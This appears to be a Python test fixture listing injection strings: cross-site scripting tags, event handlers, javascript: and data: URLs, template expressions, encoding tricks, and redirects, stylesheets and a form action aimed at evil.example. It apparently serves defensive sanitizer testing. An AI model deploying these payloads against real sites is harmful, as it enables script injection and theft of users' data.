"""Texts that would run, or break something, wherever a text is taken for markup, an address or a template."""

PAYLOADS = (
    "<script>pwned=1</script>", "</script><script>pwned=1</script>", "<img src=x onerror=pwned=1>", "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>", "<input autofocus onfocus=pwned=1>", "<video><source onerror=pwned=1></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>", "<a href=javascript:pwned=1>click</a>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example><button>Send</button></form>",
    "<object data=javascript:pwned=1>", "<embed src=data:text/html,pwned>", "<template><script>pwned=1</script></template>",
    "javascript:pwned=1", "JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned(1)", "blob:https://evil.example/1", "https://evil.example/\"onmouseover=\"pwned=1",
    "https://javascript:pwned=1@evil.example", "{{ 7*7 }} {% raw %} {{config}}", "${pwned=1} #{pwned=1} <%= pwned=1 %>",
    "\" onclick=\"pwned=1", "' onclick='pwned=1", "`-pwned=1-`",
    "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;img src=x onerror=pwned=1&#62;", "%3Cscript%3Epwned=1%3C/script%3E",
    "<!--<img src=--><img src=x onerror=pwned=1>//-->", "<![CDATA[<script>pwned=1</script>]]>",
    "--></textarea></title><img src=x onerror=pwned=1>", "\u202egnp.exe\u202c evil", "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "\ufeff<script>pwned=1</script>", "\\u003cscript\\u003epwned=1",
)
